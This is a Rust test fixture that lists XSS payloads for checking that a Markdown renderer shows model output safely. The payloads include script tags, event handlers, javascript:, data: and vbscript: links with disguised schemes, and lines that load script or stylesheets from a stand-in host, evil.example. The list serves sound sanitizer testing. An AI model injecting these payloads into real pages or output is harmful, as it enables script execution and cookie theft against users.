//! Script-injection payloads, written as a model might answer, for every layer that shows model
//! output: the Markdown tests use them directly, and `tests/e2e/xss-payloads.json` holds the
//! same list for the browser security suite (a test in `tests/markdown.rs` keeps the two equal).
//!
//! Each payload would run script, load something, or leave the page if it were rendered as
//! HTML; rendered safely, the person just sees its text.

/// The payloads: raw HTML, MathML and SVG tricks, dangerous link targets in every Markdown link
/// form, entity- and whitespace-disguised schemes, comments, and nested or broken HTML.
pub const XSS_PAYLOADS: &[&str] = &[
    // Raw HTML, block level and inline.
    "<script>alert(1)</script>",
    "<SCRIPT SRC=https://evil.example/x.js></SCRIPT>",
    "<img src=x onerror=alert(1)>",
    "<img src=\"x\" onerror=\"alert(document.cookie)\">",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><a xlink:href=\"javascript:alert(1)\"><text x=\"20\" y=\"20\">x</text></a></svg>",
    "<iframe src=\"javascript:alert(1)\"></iframe>",
    "<iframe srcdoc=\"<script>alert(1)</script>\"></iframe>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<math href=\"javascript:alert(1)\">click</math>",
    "<math><maction actiontype=\"statusline\" xlink:href=\"javascript:alert(1)\">x</maction></math>",
    "<body onload=alert(1)>",
    "<details open ontoggle=alert(1)>",
    "<object data=\"javascript:alert(1)\"></object>",
    "<embed src=\"javascript:alert(1)\">",
    "<a href=\"javascript:alert(1)\">click</a>",
    "<a href=\"https://example.com\" onclick=\"alert(1)\">x</a>",
    "<form action=\"javascript:alert(1)\"><button>go</button></form>",
    "<input autofocus onfocus=alert(1)>",
    "<video><source onerror=\"alert(1)\"></video>",
    "<style>@import 'https://evil.example/x.css';</style>",
    "<link rel=stylesheet href=https://evil.example/x.css>",
    "<meta http-equiv=\"refresh\" content=\"0;url=javascript:alert(1)\">",
    "<base href=\"https://evil.example/\">",
    "<template><script>alert(1)</script></template>",
    "<textarea><script>alert(1)</script></textarea>",
    "<marquee onstart=alert(1)>x</marquee>",
    "<img src=\"x\" onerror=\"&#97;lert(1)\">",
    // Comments, CDATA, nested and broken HTML.
    "<!-- <script>alert(1)</script> -->",
    "<!--><img src=x onerror=alert(1)>-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<img src=x onerror=alert(1)//",
    "<<script>alert(1)//<</script>",
    "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
    "<div>\n\n[x](javascript:alert(1))\n\n</div>",
    // HTML inside Markdown structure.
    "Hello <b onmouseover=alert(1)>world</b>!",
    "- item <img src=x onerror=alert(1)>",
    "| a |\n|---|\n| <script>alert(1)</script> |",
    "# Title <svg onload=alert(1)>",
    "> <iframe src=https://evil.example></iframe>",
    "[safe](https://example.com)<script>alert(1)</script>",
    ">>>>>>>>>>>>>>>>>>>>>>>>>>>>>>>>>>>>>>>> <script>alert(1)</script>",
    // Inline links with dangerous or disguised targets.
    "[click](javascript:alert(1))",
    "[click](JaVaScRiPt:alert(1))",
    "[click](JAVASCRIPT:alert(1))",
    "[click](<java\tscript:alert(1)>)",
    "[click](<java\nscript:alert(1)>)",
    "[click](  javascript:alert(1)  )",
    "[click](<javascript:alert(1)>)",
    "[click](javascript:alert(1) \"title\")",
    "[click](&#106;avascript:alert(1))",
    "[click](&#x6A;avascript&#x3A;alert(1))",
    "[click](javascript&colon;alert(1))",
    "[click](java%0Ascript:alert(1))",
    "[click](javascript://%0Aalert(1))",
    "[click](\u{0}javascript:alert(1))",
    "[click](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "[click](vbscript:msgbox(1))",
    "[click](//evil.example/phish)",
    "[click](https://example.com \"\\\" onmouseover=\\\"alert(1)\")",
    // Reference links.
    "[click][x]\n\n[x]: javascript:alert(1)",
    "[x]\n\n[x]: javascript:alert(1)",
    "[click][]\n\n[click]: data:text/html,<script>alert(1)</script>",
    "[click][x]\n\n[x]: &#106;avascript:alert(1) \"t\"",
    // Autolinks.
    "<javascript:alert(1)>",
    "<vbscript:msgbox(1)>",
    "<data:text/html,<script>alert(1)</script>>",
    "<https://example.com/\"><script>alert(1)</script>>",
    // Images.
    "![x](javascript:alert(1))",
    "![x](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)",
    "![<img src=x onerror=alert(1)>](https://example.com/a.png)",
    "![x][img]\n\n[img]: javascript:alert(1)",
    "[![x](javascript:alert(1))](javascript:alert(2))",
    // Code and escapes: shown as text, as they should be.
    "`<script>alert(1)</script>`",
    "```html\n<script>alert(1)</script>\n```",
    "```\" onmouseover=\"alert(1)\nx\n```",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "\\<script>alert(1)\\</script>",
];
